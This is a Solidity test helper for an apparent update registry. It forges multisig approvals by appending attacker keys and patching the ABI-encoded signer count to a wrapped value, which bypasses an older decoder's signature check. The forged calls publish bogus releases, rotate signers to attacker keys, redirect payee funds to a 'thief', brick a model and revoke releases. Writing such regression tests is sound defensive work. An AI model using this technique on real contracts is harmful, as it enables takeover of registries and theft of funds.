// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {IUpdateRegistry} from "../../src/interfaces/IUpdateRegistry.sol";
import {Base} from "../Base.t.sol";
import {RawBytes} from "./RawBytes.sol";

/// @notice Calldata the way an attacker handles it: encode with `abi.encodeCall`, then read and patch 32-byte words
/// in the bytes (positions include the 4-byte selector) and send them with a low-level call.
abstract contract RawCalldata is Base {
    uint256 internal constant WRAPPED_THREE = RawBytes.WRAPPED_THREE;

    function _word(bytes memory cd, uint256 pos) internal pure returns (uint256) {
        return RawBytes.word(cd, pos);
    }

    function _hasWord(bytes memory cd, uint256 pos) internal pure returns (bool) {
        return RawBytes.hasWord(cd, pos);
    }

    function _setWord(bytes memory cd, uint256 pos, uint256 value) internal pure {
        RawBytes.setWord(cd, pos, value);
    }

    /// @dev Position of the approval struct of a call whose approval is head argument `arg`.
    function _approvalAt(bytes memory cd, uint256 arg) internal pure returns (uint256) {
        unchecked {
            return 4 + _word(cd, 4 + 32 * arg);
        }
    }

    /// @dev Position of the length word of the approval's `signers` (field 0) or `signatures` (field 2).
    function _approvalFieldAt(bytes memory cd, uint256 arg, uint256 field) internal pure returns (uint256) {
        uint256 a = _approvalAt(cd, arg);
        unchecked {
            return a + _word(cd, a + 32 * field);
        }
    }

    /// @dev Two throwaway keys (no relation to the manufacturer) whose addresses ascend above the highest real
    /// signer, so an ascending walk that runs past the real set meets them in order.
    function _throwawayKeys() internal view returns (uint256[2] memory ks, address[2] memory as_) {
        address top = signers[signers.length - 1];
        uint256 found;
        for (uint256 i; found < 2; ++i) {
            uint256 k = uint256(keccak256(abi.encode("throwaway", i))) % (SECP256K1_N - 1) + 1;
            address a = vm.addr(k);
            if (a <= top) continue;
            ks[found] = k;
            as_[found] = a;
            ++found;
        }
        if (as_[0] > as_[1]) {
            (ks[0], ks[1]) = (ks[1], ks[0]);
            (as_[0], as_[1]) = (as_[1], as_[0]);
        }
    }

    /// @dev The attacker's approval before patching: the real set followed by the two throwaway addresses, the
    /// real threshold, and the throwaway keys' signatures of `structHash`. Sent as is it fails on the set hash;
    /// with the signers length patched to `WRAPPED_THREE` the old decoder hashed only the real three.
    function _forgedApproval(bytes32 structHash) internal view returns (IUpdateRegistry.Approval memory a) {
        (uint256[2] memory ks, address[2] memory as_) = _throwawayKeys();
        address[] memory set = new address[](signers.length + 2);
        for (uint256 i; i < signers.length; ++i) {
            set[i] = signers[i];
        }
        set[signers.length] = as_[0];
        set[signers.length + 1] = as_[1];
        bytes32 digest = _digest(structHash);
        a = IUpdateRegistry.Approval({
            signers: set,
            threshold: 2,
            signatures: bytes.concat(_signCompact(ks[0], digest), _signCompact(ks[1], digest))
        });
    }

    /// @dev Patches the approval's signers length (approval = head argument `arg`) to `n`.
    function _patchSignerCount(bytes memory cd, uint256 arg, uint256 n) internal pure returns (bytes memory) {
        _setWord(cd, _approvalFieldAt(cd, arg, 0), n);
        return cd;
    }

    function _send(bytes memory cd) internal returns (bool ok, bytes memory ret) {
        (ok, ret) = address(registry).call(cd);
    }

    // ---------------------------------------------------------------- the five threshold actions, forged

    /// @dev `publishRelease` of version 999 with a forged approval and a wrapped signer count.
    function _forgedPublish() internal view returns (bytes memory cd, bytes32 id) {
        IUpdateRegistry.Manifest memory m = _manifest(999, 0, address(0));
        id = registry.releaseId(m);
        cd = _patchSignerCount(abi.encodeCall(registry.publishRelease, (m, _forgedApproval(id))), 1, WRAPPED_THREE);
    }

    /// @dev `rotateSigners` to the throwaway pair (1 of 2).
    function _forgedRotate() internal view returns (bytes memory cd, address[] memory evil) {
        (, address[2] memory as_) = _throwawayKeys();
        evil = new address[](2);
        (evil[0], evil[1]) = (as_[0], as_[1]);
        bytes32 h = keccak256(abi.encode(ROTATE_TYPEHASH, mfId, uint64(0), keccak256(abi.encodePacked(evil)), uint8(1)));
        cd = _patchSignerCount(
            abi.encodeCall(registry.rotateSigners, (mfId, evil, 1, _forgedApproval(h))), 3, WRAPPED_THREE
        );
    }

    /// @dev `updateManufacturer` redirecting operator and payee to `thief`.
    function _forgedUpdate(address thief) internal view returns (bytes memory cd) {
        bytes32 h = keccak256(abi.encode(UPDATE_TYPEHASH, mfId, uint64(0), thief, thief));
        cd = _patchSignerCount(
            abi.encodeCall(registry.updateManufacturer, (mfId, thief, thief, _forgedApproval(h))), 3, WRAPPED_THREE
        );
    }

    /// @dev `raiseFloor` to `type(uint64).max` (bricks the model).
    function _forgedRaiseFloor() internal view returns (bytes memory cd) {
        uint64 floor = type(uint64).max;
        bytes32 h = keccak256(abi.encode(RAISE_FLOOR_TYPEHASH, modelId, floor));
        cd = _patchSignerCount(
            abi.encodeCall(registry.raiseFloor, (modelId, floor, _forgedApproval(h))), 2, WRAPPED_THREE
        );
    }

    /// @dev `revokeRelease` of a live release `id`.
    function _forgedRevoke(bytes32 id) internal view returns (bytes memory cd) {
        bytes32 h = keccak256(abi.encode(REVOKE_TYPEHASH, id, keccak256("pwned")));
        cd = _patchSignerCount(
            abi.encodeCall(registry.revokeRelease, (id, "pwned", _forgedApproval(h))), 2, WRAPPED_THREE
        );
    }
}
